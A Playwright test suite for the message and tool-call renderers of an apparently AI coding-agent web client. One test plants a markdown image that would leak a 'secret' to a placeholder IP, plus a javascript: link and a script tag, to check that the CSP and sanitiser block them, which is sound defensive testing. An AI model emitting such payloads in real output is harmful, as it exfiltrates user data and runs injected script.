"""Part and tool renderers with content a demo prompt alone does not produce."""

from __future__ import annotations

import base64
import struct
import time
import zlib

import pytest
from playwright.async_api import Browser, Page, expect

from tests.web.actions import card, send, wait_idle
from tests.web.conftest import left_origin


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\0" + b"\x30\x60\xc0" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))


async def test_an_image_is_a_thumbnail_that_opens_a_lightbox(page: Page) -> None:
    image = "data:image/png;base64," + base64.b64encode(_png(64, 48)).decode()
    session = await (await page.request.post("/session", data={})).json()
    body = {
        "parts": [
            {"type": "text", "text": "what is in this picture"},
            {"type": "file", "mime": "image/png", "url": image, "filename": "blue.png"},
            {
                "type": "file",
                "mime": "application/pdf",
                "url": "data:application/pdf;base64,JVBERi0=",
                "filename": "spec.pdf",
            },
        ]
    }
    response = await page.request.post(f"/session/{session['id']}/message", data=body)
    assert response.ok
    await page.goto(f"/#/session/{session['id']}")
    thumb = page.locator(".message-user .thumb img")
    await expect(thumb).to_have_attribute("alt", "blue.png")
    await expect(page.locator(".message-user .part-file.chip")).to_have_text("spec.pdf")
    await thumb.click()
    lightbox = page.get_by_role("dialog", name="Image")
    await expect(lightbox).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(lightbox).to_have_count(0)


@pytest.mark.parametrize("git_project", [True])
async def test_an_edit_shows_its_diff_and_the_changed_files(page: Page) -> None:
    await send(page, "edit src/app.py return 42 => return 43")
    edit = card(page, "edit")
    await expect(edit).to_have_attribute("data-state", "completed", timeout=10_000)
    await expect(edit.locator(".tool-subtitle")).to_have_text("src/app.py")
    await expect(edit.locator(".diff-del")).to_contain_text("return 42")
    await expect(edit.locator(".diff-add")).to_contain_text("return 43")
    await expect(page.locator(".part-patch").first).to_contain_text("src/app.py")
    await wait_idle(page)


async def test_a_write_shows_its_content_and_read_its_range(page: Page) -> None:
    await send(page, "write notes.md # Notes")
    write = card(page, "write")
    await expect(write).to_have_attribute("data-state", "completed", timeout=10_000)
    await wait_idle(page)
    await write.locator(".tool-head").click()
    await expect(write.locator(".tool-output")).to_have_text("# Notes\n")
    await send(page, "README.md")
    read = card(page, "read")
    await expect(read).to_have_attribute("data-state", "completed", timeout=10_000)
    await expect(read.locator(".tool-subtitle")).to_have_text("README.md")
    await wait_idle(page)


async def test_a_remote_image_in_model_text_is_not_fetched(browser: Browser, base_url: str) -> None:
    context = await browser.new_context(base_url=base_url)  # the real CSP, not bypassed
    page = await context.new_page()
    outside = left_origin(page, base_url)
    refused: list[str] = []
    page.on("console", lambda m: refused.append(m.text) if "Content Security" in m.text else None)
    session = await (await page.request.post("/session", data={})).json()
    leak = (
        "![x](http://192.0.2.1/leak?secret=1) [docs](https://example.org/) "  # TEST-NET-1
        "[bad](javascript:alert(1)) <script>window.owned = 1</script>"
    )
    body = {"parts": [{"type": "text", "text": leak}], "noReply": True}
    assert (await page.request.post(f"/session/{session['id']}/message", data=body)).ok
    await page.goto(f"/#/session/{session['id']}")
    await expect(page.locator(".message-user img")).to_have_count(1)
    await expect(page.locator(".message-user")).to_be_visible()
    link = page.locator(".message-user a", has_text="docs")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")
    assert await page.locator(".message-user a", has_text="bad").get_attribute("href") is None
    assert await page.evaluate("window.owned") is None
    await page.wait_for_timeout(300)
    await context.close()
    assert outside == [], "the browser must not request a remote image"
    assert any("192.0.2.1" in text for text in refused), "the policy refused the image"
    assert any("img-src 'self' data: blob:" in text for text in refused)


async def test_a_compaction_is_a_divider(page: Page) -> None:
    await send(page, "list")
    # the status reads idle until the run's first event arrives: see the run, then its end
    await expect(card(page, "list")).to_have_attribute("data-state", "completed")
    await wait_idle(page)
    session = page.url.split("#/session/")[1]
    body = {"providerID": "demo", "modelID": "demo"}
    assert (await page.request.post(f"/session/{session}/summarize", data=body)).ok
    await expect(page.get_by_role("separator")).to_have_text("Context compacted")
    await wait_idle(page)


INJECT = """([sessionID, parts]) => {
  const store = window.partwire.store;
  const messageID = "msg_zzzzzzzzzzzzzzzzzzzzzzzzzz";
  store.apply({ type: "message.updated", properties: { info: {
    id: messageID, sessionID, role: "assistant", time: { created: Date.now() } } } });
  parts.forEach((part, i) => store.apply({ type: "message.part.updated", properties: {
    part: { id: `prt_zzzz${i}`, sessionID, messageID, ...part } } }));
}"""


def _tool(tool: str, status: str, **state: object) -> dict[str, object]:
    return {
        "type": "tool",
        "tool": tool,
        "callID": f"call_{tool}",
        "state": {"status": status, **state},
    }


async def test_tool_states_the_demo_cannot_produce(page: Page) -> None:
    """Parts injected into the client store: each renderer's own details, and the fallbacks."""
    await send(page, "hello")
    await wait_idle(page)
    session = page.url.split("#/session/")[1]
    now = int(time.time() * 1000) - 75 * 60 * 1000  # a call started 75 minutes ago
    root = await page.evaluate("window.partwire.store.sessions.values().next().value.directory")
    parts = [
        _tool(
            "read",
            "completed",
            input={"filePath": f"{root}/src/app.py", "offset": 10, "limit": 5},
            output="<file>…</file>",
            title="src/app.py",
            metadata={},
            time={"start": now, "end": now + 5},
        ),
        _tool(
            "webfetch",
            "completed",
            input={"url": "https://example.org/doc", "format": "markdown"},
            output="# Doc",
            title="https://example.org/doc",
            metadata={"bytes": 2048, "contentType": "text/html"},
            time={"start": now, "end": now + 9},
        ),
        _tool(
            "bash",
            "running",
            input={"command": "make", "description": "Build"},
            metadata={"output": "\u001b[32mok\u001b[0m compiling"},
            time={"start": now},
        ),
        _tool(
            "mystery",
            "completed",
            input={"x": 1},
            output="done",
            title="Mystery tool",
            metadata={},
            time={"start": now, "end": now + 1},
        ),
        {"type": "future-part"},
    ]
    await page.evaluate(INJECT, [session, parts])
    read = card(page, "read")
    await expect(read.locator(".tool-subtitle")).to_have_text("src/app.py (from 10, 5 lines)")
    fetch = card(page, "webfetch")
    await fetch.locator(".tool-head").click()
    await expect(fetch.locator(".tool-facts")).to_contain_text("2.0 KB")
    await expect(fetch.locator(".tool-subtitle")).to_have_text("https://example.org/doc")
    bash = card(page, "bash")
    await expect(bash.locator(".spinner")).to_be_visible()
    await expect(bash.locator(".elapsed")).to_have_text("1 h 15 m")
    await expect(bash.locator(".terminal")).to_have_text("ok compiling")  # ANSI stripped, live
    mystery = card(page, "mystery")
    await expect(mystery.locator(".tool-title")).to_have_text("mystery")  # generic fallback
    await mystery.locator(".tool-head").click()
    await expect(mystery.locator(".tool-output").first).to_contain_text('"x": 1')
    await expect(page.locator(".part-unknown")).to_have_text("[future-part]")
